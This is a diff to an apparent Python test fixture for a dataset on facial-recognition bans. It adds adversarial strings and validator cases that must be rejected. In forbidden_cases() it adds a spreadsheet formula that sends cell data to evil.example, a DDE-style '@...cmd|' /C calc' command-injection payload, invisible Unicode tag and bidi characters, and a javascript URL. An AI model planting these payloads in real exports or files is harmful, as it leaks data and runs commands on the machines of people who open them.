@@ -40,7 +40,12 @@ ENTITIES = "&amp; &#60;b&#62; &quot; &copy;"
 JINJA = "{{7*7}} {% raw %}{{ config }}"
 ARABIC = "حظر التعرف على الوجه"
 HEBREW = "איסור זיהוי פנים"
+# Spaces that look like others (no-break, narrow no-break, soft hyphen): allowed; the
+# zero-width ones (ZERO_WIDTH) are refused since issue 23 and are in forbidden_cases().
+LOOKALIKE_SPACES = "no\u00a0break\u202fnarrow\u00adsoft"
 ZERO_WIDTH = "zero\u200bwidth\u200cnon\u200djoiner\u2060word\ufeffend"
+TAG_TEXT = "tag\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065end"
+FORMULA = '=HYPERLINK("https://evil.example/?leak="&B2,"x")'
 CJK = "人脸识别禁令"
 EMOJI = "🚫📷 👩🏽‍⚖️"
 BACKSLASH = "C:\\path\\to\\x \\* \\$ \\<"
@@ -83,7 +88,7 @@ JURISDICTIONS: tuple[dict[str, str], ...] = (
      "geoid": "53033", "lat": "47.4907", "lon": "-121.8339", "note": MD_MISC},
     {"id": "ca-state", "name": f"{ARABIC} California", "level": "state", "state": "CA",
      "geoid": "06", "lat": "36.7783", "lon": "-119.4179", "note": BACKSLASH},
-    {"id": "ma-state", "name": f"{HEBREW} {ZERO_WIDTH}", "level": "state", "state": "MA",
+    {"id": "ma-state", "name": f"{HEBREW} {LOOKALIKE_SPACES}", "level": "state", "state": "MA",
      "geoid": "25", "lat": "42.2596", "lon": "-71.8083", "note": ""},
     {"id": "eu", "name": f"{ENTITIES} {JINJA}", "level": "supranational", "state": "",
      "geoid": "", "lat": "50.8503", "lon": "4.3517", "note": SCRIPT},
@@ -121,14 +126,14 @@ EVENTS: tuple[dict[str, str], ...] = (
     _event("ca-san-francisco", "2019-05", "pending", f"{MD_LINK} {MATH}", TEMPLATE,
            URL_MARKDOWN, confidence="medium"),
     _event("ca-san-francisco", "2019-05-14", "banned", f"{QUOTE_BREAK} {CLOSERS}",
-           f"{ARABIC} {HEBREW}", URL_NEXT, measure=f"{CJK} {EMOJI}", vote=ZERO_WIDTH),
+           f"{ARABIC} {HEBREW}", URL_NEXT, measure=f"{CJK} {EMOJI}", vote=LOOKALIKE_SPACES),
     _event("ma-boston", "2020-06-24", "banned", f"{ENTITIES} {JINJA}", MD_MISC, URL_UNICODE,
            measure=STREAMLIT_MD, vote=BACKSLASH),
     _event("or-portland", "2020-09-09", "banned", f"{TEMPLATE} {LINE_SEPARATOR}", CLOSERS,
            URL_CLOSER, measure=MATH, vote=QUOTE_BREAK),
     _event("or-portland", "2023-03-01", "repealed", MD_MISC, SCRIPT,
            "https://example.org/portland-2023", confidence="low"),
-    _event("ca-los-angeles", "2021-01", "using", f"{ARABIC} {ZERO_WIDTH}", EMOJI,
+    _event("ca-los-angeles", "2021-01", "using", f"{ARABIC} {LOOKALIKE_SPACES}", EMOJI,
            "https://example.org/la"),
     _event("ny-new-york", "2021-11", "pending", LONG_NAME, STREAMLIT_MD,
            "https://example.org/nyc", measure=LONG_NAME),
@@ -139,7 +144,7 @@ EVENTS: tuple[dict[str, str], ...] = (
     _event("ma-state", "2020-12", "pending", CLOSERS, QUOTE_BREAK, "https://example.org/ma",
            proposal="ma-bill"),
     _event("ma-state", "2021-06", "failed", f"{IMG} {MATH}", SVG, "https://example.org/ma-2",
-           proposal="ma-bill", read_url=URL_BREAKOUT, note=f"{JINJA} {ZERO_WIDTH}"),
+           proposal="ma-bill", read_url=URL_BREAKOUT, note=f"{JINJA} {LOOKALIKE_SPACES}"),
     _event("eu", "2021-04-21", "pending", IMG, f"{IMG} {CJK}", "https://example.org/eu-1"),
     _event("eu", "2024-03-13", "restricted", STREAMLIT_MD, f"{SCRIPT} {SVG}",
            "https://example.org/eu-2", measure=TEMPLATE),
@@ -180,10 +185,10 @@ QUOTES: tuple[dict[str, str], ...] = (
     _quote("q-004", "ma-boston", "2020-06", f"{ARABIC} {HEBREW}", f"{MD_LINK} {MATH} {MD_MISC}",
            f"{CJK} {EMOJI}", URL_UNICODE, stance="neutral", confidence="low"),
     _quote("q-005", "or-portland", "2020-09-09", f"{CJK} {EMOJI}", f"{ENTITIES} {JINJA}",
-           ZERO_WIDTH, URL_CLOSER, role=BACKSLASH, note=LINE_SEPARATOR),
-    _quote("q-006", "wa-king-county", "2021-06-01", ZERO_WIDTH, f"{STREAMLIT_MD} {BACKSLASH}",
+           LOOKALIKE_SPACES, URL_CLOSER, role=BACKSLASH, note=LINE_SEPARATOR),
+    _quote("q-006", "wa-king-county", "2021-06-01", LOOKALIKE_SPACES, f"{STREAMLIT_MD} {BACKSLASH}",
            f"{TEMPLATE} {SCRIPT}", "https://example.org/king-q", role=f"{ARABIC} {EMOJI}"),
-    _quote("q-007", "eu", "2021-04-21", MD_MISC, f"{ARABIC} {HEBREW} {ZERO_WIDTH}",
+    _quote("q-007", "eu", "2021-04-21", MD_MISC, f"{ARABIC} {HEBREW} {LOOKALIKE_SPACES}",
            CLOSERS, "https://example.org/eu-q", role=IMG, note=MD_LINK),
     _quote("q-008", "un", "2020-06", f"{MD_LINK} {BACKSLASH}", LINE_SEPARATOR,
            f"{QUOTE_BREAK} {MATH}", URL_BREAKOUT, stance="neutral"),
@@ -207,18 +212,38 @@ ROWS: dict[str, tuple[dict[str, str], ...]] = {
     "tallies.csv": TALLIES,
     # A bill of ma-state is pending: its session says when it stops standing.
     "sessions.csv": (
-        {"jurisdiction_id": "ma-state", "session": f"{SCRIPT} session", "start": "2019-01-02",
-         "end": "2021-01-06", "source_name": f"{SVG} {JINJA}", "source_url": URL_NEXT,
-         "read_url": "", "note": f"{TEMPLATE} {ARABIC}"},
+        {
+            "jurisdiction_id": "ma-state",
+            "session": f"{SCRIPT} session",
+            "start": "2019-01-02",
+            "end": "2021-01-06",
+            "source_name": f"{SVG} {JINJA}",
+            "source_url": URL_NEXT,
+            "read_url": "",
+            "note": f"{TEMPLATE} {ARABIC}",
+        },
     ),
 }
 # The files the corpus writes (the mirror list holds no text a page shows).
 SPECS = tuple(spec for spec in FILES if spec.name in ROWS)
 
+
+def _complete(row: Mapping[str, str], columns: Sequence[str]) -> dict[str, str]:
+    """A row with the columns the corpus leaves to the codebook filled in as the validator
+    reads them back (a download writes every column)."""
+    filled = dict(row)
+    for column in columns:
+        if column not in filled and column in ("scope", "proposal_kind", "role"):
+            filled[column] = "government" if column == "role" else _default(column, row)
+    return filled
+
+
+ROWS = {spec.name: tuple(_complete(r, spec.columns) for r in ROWS[spec.name]) for spec in SPECS}
+
 # Short strings a reader must see, literally, somewhere on the pages (each sits in a field
 # that is drawn as text, not only inside a table's canvas).
 VISIBLE = (SCRIPT, IMG, SVG, TEMPLATE, CLOSERS, MD_LINK, MATH, ENTITIES, JINJA, ARABIC, HEBREW,
-           CJK, EMOJI, BACKSLASH, STREAMLIT_MD, MD_MISC, QUOTE_BREAK, ZERO_WIDTH)  # fmt: skip
+           CJK, EMOJI, BACKSLASH, STREAMLIT_MD, MD_MISC, QUOTE_BREAK, LOOKALIKE_SPACES)  # fmt: skip
 
 
 def csv_text(columns: Sequence[str], rows: Sequence[Mapping[str, str]]) -> str:
@@ -313,6 +338,21 @@ def forbidden_cases() -> tuple[Forbidden, ...]:
                   f"is 10000 characters long; the limit is {MAX_SUMMARY}"),
         Forbidden("name-outer-space", "jurisdictions.csv", 2, "name", " Boston",
                   "has leading or trailing spaces"),
+        Forbidden("name-zero-width", "jurisdictions.csv", 3, "name", ZERO_WIDTH,
+                  "contains the zero-width character U+200B"),
+        Forbidden("summary-tags", "events.csv", 7, "summary", TAG_TEXT,
+                  "contains the invisible tag character U+E0069"),
+        Forbidden("speaker-formula", "quotes.csv", 6, "speaker", FORMULA,
+                  "starts with '=', which a spreadsheet reads as a formula; "
+                  "start the text another way"),
+        Forbidden("measure-formula-at", "events.csv", 8, "measure", "@SUM(1+1)*cmd|' /C calc'!A0",
+                  "starts with '@', which a spreadsheet reads as a formula; "
+                  "start the text another way"),
+        Forbidden("note-bidi-mark", "jurisdictions.csv", 4, "note", "left\u200fright",
+                  "contains the bidi control character U+200F"),
+        Forbidden("url-port-script", "events.csv", 9, "source_url",
+                  "https://javascript:window.__x=118/",
+                  "is not a well-formed web address (the port is not a number)"),
     )  # fmt: skip
 
 
